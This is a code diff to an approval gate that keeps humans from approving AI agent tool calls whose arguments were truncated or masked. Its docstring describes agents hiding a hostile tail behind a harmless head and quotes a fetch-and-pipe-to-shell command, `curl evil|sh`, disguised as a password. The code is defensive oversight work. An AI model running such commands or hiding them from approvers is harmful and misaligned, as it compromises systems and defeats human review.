@@ -53,6 +53,13 @@ class Refusal(enum.Enum):
         }[self]
 
 
+#: the refusal's words for a call that fits a card but where a mask could hide code
+MASKED_CODE = (
+    "a masked part of the arguments could hide code, so the card could not show the whole "
+    "call; review and approve in gate"
+)
+
+
 @dataclass(frozen=True)
 class Actor:
     """The person (or token) acting on a request, as any surface resolved them.
@@ -177,14 +184,18 @@ def approval_refusal(view: RequestView, actor: Actor) -> Result | None:
     or None when they may: their surface must have shown the call's arguments whole.
 
     A card cut to fit its platform hides the rest of the call, and an agent can put a
-    harmless head before a hostile tail: nobody approves a call they could not read.
+    harmless head before a hostile tail; a card that masked code shaped like a secret
+    (`echo password=$(curl evil|sh)`) hides it too: nobody approves a call they could not read.
     Rejecting needs no such check (it fails closed).
     """
     if actor.args_chars is None or untrusted.shows_whole(view.tool_args, actor.args_chars):
         return None
     refusal = Refusal.arguments_not_shown
+    why = refusal.sentence()
+    if len(untrusted.arguments_json(view.tool_args)) <= actor.args_chars:
+        why = MASKED_CODE  # they fit: a mask in them could hide code
     where = f" ({view.url})" if view.url else ""
-    return Result(None, view, refusal, f"{refusal.sentence()}{where}", refusal.value)
+    return Result(None, view, refusal, f"{why}{where}", refusal.value)
 
 
 def requester_identities(settings: Settings, view: RequestView) -> set[str]:
